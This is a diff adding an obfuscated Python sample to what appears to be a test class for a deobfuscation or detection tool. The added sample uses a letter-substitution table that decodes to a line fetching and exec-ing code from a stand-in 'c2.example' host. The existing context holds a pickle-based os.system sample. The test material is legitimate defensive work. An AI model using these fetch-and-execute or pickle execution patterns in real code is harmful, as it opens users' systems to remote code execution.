@@ -79,6 +79,14 @@ final class PythonUnfolding {
             """
             import pickle, base64
             pickle.loads(base64.b64decode('Y29zCnN5c3RlbQooUydlY2hvIGluZXJ0Jwp0Ui4='))
+            """),
+        Sample.imported(
+            "letters stand for others by a table",
+            """
+            T = dict(zip('ZYXWVUTSRQPONMLKJIHGFEDCBA', 'abcdefghijklmnopqrstuvwxyz'))
+            def d(s):
+                return ''.join(T.get(c, c) for c in s)
+            exec(d("RNKLIG FIOORY.IVJFVHG ZH F;VCVX(F.FIOLKVM('SGGK://X2.VCZNKOV/').IVZW())"))
             """));
   }
 }
